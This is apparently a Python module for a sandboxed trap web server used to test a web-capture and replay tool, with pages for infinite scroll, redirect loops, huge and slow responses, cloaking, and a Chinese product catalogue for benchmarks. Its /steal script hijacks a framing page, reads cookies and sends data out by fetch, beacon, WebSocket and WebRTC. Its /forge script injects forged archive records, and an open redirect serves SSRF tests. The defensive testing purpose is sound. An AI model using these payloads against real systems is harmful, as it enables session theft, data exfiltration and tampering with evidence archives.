"""A hostile web site and a generated catalogue, for capture tests and benchmarks.

``hostile.example-trap.cn`` (HTTP and HTTPS, own ports) serves pages built to
trap a capture tool. Each capture of one must end within its limits, keep what
it got and say why it stopped:

* ``/scroll``: infinite scroll (every scroll appends content and fetches more);
* ``/loop/a`` → ``/loop/b`` → ``/loop/a`` …: a redirect loop;
* ``/huge``: a 1 GB response, generated and streamed, never held in memory;
* ``/drip``: a slow drip, one byte a second for ten minutes;
* ``/dialogs``: ``alert``, ``confirm`` and ``prompt`` on load;
* ``/download``: an attachment (``Content-Disposition``);
* ``/popup``: opens a pop-up window on load;
* ``/never``: a page that never finishes loading (its body never ends);
* ``/redirect-private?to=URL``: a redirect to any URL (e.g. a loopback address),
  for the SSRF tests;
* ``/forge``: a page whose script asks the recording proxy to write records
  itself (warcprox's ``WARCPROX_WRITE_RECORD`` and ``PUTMETA`` methods) and
  sends its own ``Warcprox-Meta`` header, for the WARC integrity tests (the
  forged body, ``FORGED_MARKER``, is assembled by the script, so it never
  appears in the page's own bytes);
* ``/webrtc?stun=PORT``: a page that opens a WebRTC peer connection with a STUN
  server on ``127.0.0.1:PORT`` (UDP, which no HTTP proxy carries), for the
  test that a capture's browser sends no UDP of its own;
* ``/steal?app=ORIGIN``: a page whose script, once framed (as in a replay),
  tries to rewrite its parent, read cookies and call ``ORIGIN/api/v1/…`` with
  the viewer's session, for the replay isolation tests; with ``&out=ORIGIN`` it
  also tries to reach ``ORIGIN`` (a server outside the replay) by fetch, beacon,
  WebSocket, dynamic import, image and WebRTC (STUN on the same port);
* ``/late``: a page whose script writes its real content (``LATE_MARKER`` and
  the seller's address ``LATE_EMAIL``) 1.5 s after load, with no network request
  at all (a capture that waits only for network quiet misses it, and so does a
  plain GET);
* ``/lazy-slow``: a tall page that fetches its last section
  (``/lazy-slow/more``, answered 1.5 s late) only when scrolled to the bottom,
  then shows ``LAZY_MARKER``;
* ``/cloak``: a page that shows its real content (``CLOAK_REAL``) only to an
  ordinary browser, and a harmless page (``CLOAK_DECOY``) when the request's
  User-Agent or client hints say ``HeadlessChrome`` or the script sees
  ``navigator.webdriver``.

``bench.example-trap.cn`` (same ports) serves a generated catalogue of
Chinese product pages for benchmarks: ``/page/N`` (N ≥ 0, ``?delay=MS`` answers
that many milliseconds late, as a slow server would) with an image
``/img/N.png``; and ``/zh?text=…`` renders the given text large (font tests).
"""

from __future__ import annotations

import html
import json
import time
from collections.abc import Iterator, Mapping
from types import MappingProxyType
from typing import ClassVar
from urllib.parse import quote

from rightsguard.sandbox import images
from rightsguard.sandbox.httpserver import HttpAndHttps, Request, Response
from rightsguard.sandbox.service import Endpoint, SandboxConfig, SandboxContext

HOSTILE_HOST = "hostile.example-trap.cn"
BENCH_HOST = "bench.example-trap.cn"
HUGE_SIZE = 1 << 30
_CHUNK = 1 << 16

_PAGE = """<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8"><title>{title}</title></head>
<body>{body}</body></html>
"""


def _page(title: str, body: str, status: int = 200) -> Response:
    return Response(status, _PAGE.format(title=html.escape(title), body=body).encode())


def _huge() -> Iterator[bytes]:
    block = (b"0123456789abcdef" * (_CHUNK // 16))[:_CHUNK]
    for _ in range(HUGE_SIZE // _CHUNK):
        yield block


def _drip(seconds: int = 600, prefix: bytes = b"") -> Iterator[bytes]:
    if prefix:
        yield prefix
    for _ in range(seconds):
        time.sleep(1)
        yield b" "


_SCROLL_JS = """
<script>
let n = 0;
function more() {
  for (let i = 0; i < 20; i++) {
    const p = document.createElement('p');
    p.style.height = '80px';
    p.textContent = '无限滚动 第 ' + (n++) + ' 条';
    document.body.appendChild(p);
  }
  fetch('/scroll/more?n=' + n).catch(() => {});
}
more();
window.addEventListener('scroll', () => {
  if (window.innerHeight + window.scrollY >= document.body.scrollHeight - 400) more();
});
</script>
"""

_DIALOG_JS = """
<p>对话框页面</p>
<script>
alert('警告：这是一个弹窗');
const ok = confirm('确认继续吗？');
const answer = prompt('请输入验证码', '');
document.body.insertAdjacentHTML('beforeend', '<p id="after">dialogs done</p>');
</script>
"""

_POPUP_JS = """
<p>弹出窗口页面</p>
<script>window.open('/popup/child', '_blank', 'width=400,height=300');</script>
"""


FORGED_MARKER = "FORGED-EVIDENCE-RECORD"
FORGED_TARGET = "/forged/target"
META_PROBE = "/forge/meta-probe"
PAGE_PREFIX = "page-chosen"
_FORGE_JS = (
    """
<p>伪造记录页面</p>
<script>
const forged = ['FORGED', 'EVIDENCE', 'RECORD'].join('-');
const body = 'HTTP/1.1 200 OK\\r\\nContent-Type: text/html\\r\\n\\r\\n<h1>' + forged + '</h1>';
const headers = {'WARC-Type': 'response', 'Content-Type': 'application/http; msgtype=response'};
for (const method of ['WARCPROX_WRITE_RECORD', 'PUTMETA']) {
  fetch('FORGED_TARGET', {method, headers, body}).catch(() => {});
}
const blocks = [{'domain': 'example-trap.cn'}];
const meta = JSON.stringify({'warc-prefix': 'PAGE_PREFIX', blocks});
fetch('META_PROBE', {headers: {'Warcprox-Meta': meta}}).catch(() => {});
</script>
""".replace("FORGED_TARGET", FORGED_TARGET)
    .replace("PAGE_PREFIX", PAGE_PREFIX)
    .replace("META_PROBE", META_PROBE)
)

_WEBRTC_JS = """
<p>WebRTC 页面</p>
<script>
const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:STUN_PORT'}]});
pc.createDataChannel('probe');
pc.onicecandidate = (e) => {
  if (e.candidate) document.body.insertAdjacentHTML('beforeend', '<p>candidate</p>');
};
pc.createOffer().then((offer) => pc.setLocalDescription(offer));
</script>
"""

STEAL_MARKER = "HOSTILE-CAPTURED-TEXT"
_STEAL_JS = """
<pre id="log"></pre>
<script>
const APP = %s;
const OUT_HOST = %s;  // host:port, made a URL at run time (past pywb's rewriting)
const OUT = OUT_HOST && ['http:', '', OUT_HOST].join('/');
const log = (s) => { document.getElementById('log').textContent += s + '\\n'; };
if (window.parent !== window) {
  try { parent.document.body.innerHTML = '<h1>HIJACKED</h1>'; log('parent: changed'); }
  catch (e) { log('parent: blocked'); }
  try { log('cookie: ' + document.cookie); } catch (e) { log('cookie: blocked'); }
  const from = '?from=replayed-page';
  fetch(APP + '/api/v1/me' + from, {credentials: 'include'})
    .then((r) => r.text()).then((t) => log('fetch: ' + t)).catch(() => log('fetch: blocked'));
  fetch(APP + '/api/v1/discovery/triage' + from, {method: 'POST', credentials: 'include',
    mode: 'no-cors', body: '{"dismiss": [1]}'}).catch(() => log('post: blocked'));
  const x = new XMLHttpRequest();
  x.open('GET', APP + '/api/v1/targets' + from); x.withCredentials = true;
  x.onerror = () => log('xhr: blocked'); x.send();
  new Image().src = APP + '/api/v1/me' + from + '&via=img';
  if (OUT) {
    // The live web, by every road there is.
    const out = (road) => OUT + '/' + road + from;
    const tries = {
      fetch: () => fetch(out('fetch'), {mode: 'no-cors'}),
      beacon: () => navigator.sendBeacon(out('beacon'), 'x'),
      socket: () => new WebSocket(out('socket').replace(/^http/, 'ws')),
      import: () => import(out('import')),
      image: () => { const i = document.createElement('img'); i.src = out('image'); },
      webrtc: () => {
        const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:' + OUT_HOST}]});
        pc.createDataChannel('x');
        return pc.createOffer().then((o) => pc.setLocalDescription(o));
      },
    };
    for (const [road, attempt] of Object.entries(tries)) {
      try {
        Promise.resolve(attempt()).catch(() => log(road + ': refused'));
      } catch (e) { log(road + ': refused'); }
    }
  }
}
log('attacks: sent');
</script>
"""


LATE_MARKER = "LATE-SCRIPT-CONTENT"
LATE_EMAIL = "late-seller@example-trap.cn"
_LATE_JS = """
<h1>迟到的内容</h1><p>加载中……</p>
<script>
setTimeout(() => {
  const mail = ['late-seller', 'example-trap.cn'].join('@');
  document.body.insertAdjacentHTML('beforeend', '<p id="late">' + ['LATE', 'SCRIPT', 'CONTENT']
    .join('-') + '：侵权商品 售价 ¥99，客服邮箱 ' + mail + '</p>');
}, 1500);
</script>
"""

LAZY_MARKER = "LAZY-SLOW-CONTENT"
LAZY_DELAY = 1.5
_LAZY_JS = """
<h1>慢速懒加载</h1>
<div style="height:3000px">商品列表（向下滚动加载更多）</div>
<div id="end">底部</div>
<script>
let asked = false;
window.addEventListener('scroll', () => {
  if (asked || window.innerHeight + window.scrollY < document.body.scrollHeight - 200) return;
  asked = true;
  fetch('/lazy-slow/more').then((r) => r.json()).then((d) => {
    document.getElementById('end').insertAdjacentHTML('beforeend', '<p>' + d.text + '</p>');
  });
});
</script>
"""

CLOAK_REAL = "CLOAK-REAL-CONTENT"
CLOAK_DECOY = "CLOAK-DECOY-PAGE"
_CLOAK_JS = """
<div id="content"><h1>正品折扣店</h1><p>CLOAK_REAL：仿冒商品 ¥88</p></div>
<script>
if (navigator.webdriver) {
  const decoy = ['CLOAK', 'DECOY', 'PAGE'].join('-');
  document.getElementById('content').innerHTML = '<p>' + decoy + '</p>';
}
</script>
""".replace("CLOAK_REAL", CLOAK_REAL)


def cloak_page(request: Request) -> Response:
    """The real page to an ordinary browser; a decoy to a headless or automated one."""
    said = ("user-agent", "sec-ch-ua", "sec-ch-ua-full-version-list")
    announced = " ".join(request.headers.get(h, "") for h in said)
    if "headless" in announced.lower():
        return _page("欢迎", f"<p>{CLOAK_DECOY}</p>")
    return _page("正品折扣店", _CLOAK_JS)


def steal_page(app: str, out: str = "") -> Response:
    """The framed-script attack page; ``app`` and ``out`` are embedded as JSON string
    literals."""
    out_host = out.split("//", 1)[-1]
    app_literal, out_literal = (json.dumps(x).replace("<", "\\u003c") for x in (app, out_host))
    body = f'<h1>脚本陷阱</h1><p id="marker">{STEAL_MARKER}</p>'
    body += _STEAL_JS % (app_literal, out_literal)
    return _page("脚本陷阱", body)


def bench_page(n: int) -> bytes:
    """The catalogue page ``/page/N``: Chinese text, an image, a footer."""
    items = "".join(
        f"<li>极光 AURORIX 仿冒商品 {n}-{i} ¥{(n * 7 + i) % 500 + 19}.00</li>" for i in range(12)
    )
    body = (
        f"<h1>商品目录 第 {n} 页</h1>"
        f'<img src="/img/{n}.png" width="96" height="96" alt="商品图片 {n}">'
        f"<ul>{items}</ul>"
        f'<p><a href="/page/{n + 1}">下一页</a></p>'
        "<footer><p>主办单位：深圳市晨曦优品贸易有限公司 ｜ 粤ICP备18065432号-1</p></footer>"
    )
    return _PAGE.format(title=f"商品目录 {n}", body=body).encode()


class HostileService:
    """Serves the hostile site and the benchmark catalogue over HTTP and HTTPS."""

    name: ClassVar[str] = "hostile"
    hostnames: ClassVar[tuple[str, ...]] = (HOSTILE_HOST, BENCH_HOST)
    portless: ClassVar[Mapping[str, str]] = MappingProxyType({})

    def __init__(self, config: SandboxConfig) -> None:
        self.config = config
        self._servers: HttpAndHttps | None = None

    def start(self, ctx: SandboxContext) -> None:
        servers = HttpAndHttps(
            self.config.host,
            (self.config.port("hostile_http"), self.config.port("hostile_https")),
            self.app,
            ctx.tls.server_context(),
            names=("hostile", "hostile-https"),
        )
        servers.start()
        self._servers = servers

    def stop(self) -> None:
        if self._servers is not None:
            self._servers.stop()
        self._servers = None

    def endpoints(self) -> dict[str, Endpoint]:
        if self._servers is None:
            return {}
        ports = self._servers.ports()
        return {s: Endpoint(s, self.config.host, port) for s, port in ports.items()}

    # --- the app --------------------------------------------------------

    def app(self, request: Request) -> Response:
        if request.host == BENCH_HOST:
            return self._bench(request)
        return self._hostile(request)

    def _bench(self, request: Request) -> Response:
        path = request.path
        if path.startswith("/page/") and path[6:].isdigit():
            delay = request.arg("delay", "0")
            if delay.isdigit():  # a slow server: milliseconds before the answer, capped
                time.sleep(min(int(delay), 10_000) / 1000)
            return Response(200, bench_page(int(path[6:])))
        if path.startswith("/img/") and path.endswith(".png") and path[5:-4].isdigit():
            return Response(200, images.pattern_png(f"bench:{path[5:-4]}"), "image/png")
        if path == "/zh":
            text = html.escape(request.arg("text", "中文"))
            style = "font-size:64px;font-family:'Noto Sans CJK SC',sans-serif"
            return _page(text, f'<p style="{style}">{text}</p>')
        return _page("404", "<h1>404 Not Found</h1>", 404)

    def _hostile(self, request: Request) -> Response:
        path = request.path
        if path == "/":
            links = "".join(
                f'<li><a href="{p}">{p}</a></li>'
                for p in ("/scroll", "/loop/a", "/huge", "/drip", "/dialogs", "/download")
            )
            return _page("陷阱网站", f"<h1>陷阱网站</h1><ul>{links}</ul>")
        if path == "/scroll":
            return _page("无限滚动", "<h1>无限滚动</h1>" + _SCROLL_JS)
        if path == "/scroll/more":
            return Response(200, b"{}", "application/json")
        if path in ("/loop/a", "/loop/b"):
            other = "/loop/b" if path == "/loop/a" else "/loop/a"
            return Response(302, b"", headers={"Location": other})
        if path == "/redirect-private":
            target = request.arg("to", "http://127.0.0.1/")
            return Response(302, b"", headers={"Location": target})
        if path == "/huge":
            return Response(
                200,
                _huge(),
                "application/octet-stream",
                {"Content-Disposition": 'inline; filename="huge.bin"'},
            )
        if path == "/drip":
            return Response(200, _drip(600, b"<!DOCTYPE html><title>drip</title><p>"))
        if path == "/never":
            head = (
                '<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8">'
                "<title>永不结束</title></head><body><h1>永不结束的页面</h1>"
            ).encode()
            return Response(200, _drip(600, head))
        if path == "/dialogs":
            return _page("对话框", _DIALOG_JS)
        if path == "/download":
            return Response(
                200,
                b"PK\x03\x04 not really a zip\n" * 64,
                "application/zip",
                {"Content-Disposition": 'attachment; filename="tool.zip"'},
            )
        if path == "/forge":
            return _page("伪造记录", _FORGE_JS)
        if path == META_PROBE:
            return Response(200, b"{}", "application/json")
        if path == "/webrtc":
            port = request.arg("stun", "3478")
            return _page("WebRTC", _WEBRTC_JS.replace("STUN_PORT", str(int(port))))
        if path == "/steal":
            return steal_page(request.arg("app", "http://127.0.0.1"), request.arg("out", ""))
        if path == "/popup":
            return _page("弹窗", _POPUP_JS)
        if path == "/late":
            return _page("迟到的内容", _LATE_JS)
        if path == "/lazy-slow":
            return _page("慢速懒加载", _LAZY_JS)
        if path == "/lazy-slow/more":
            time.sleep(LAZY_DELAY)
            body = json.dumps({"text": f"{LAZY_MARKER}：第二页商品"}, ensure_ascii=False)
            return Response(200, body.encode(), "application/json")
        if path == "/cloak":
            return cloak_page(request)
        if path == "/popup/child":
            return _page("子窗口", "<p>子窗口</p>")
        return _page("404", f"<h1>404</h1><p>{html.escape(quote(path))}</p>", 404)


def make_service(config: SandboxConfig) -> HostileService:
    return HostileService(config)
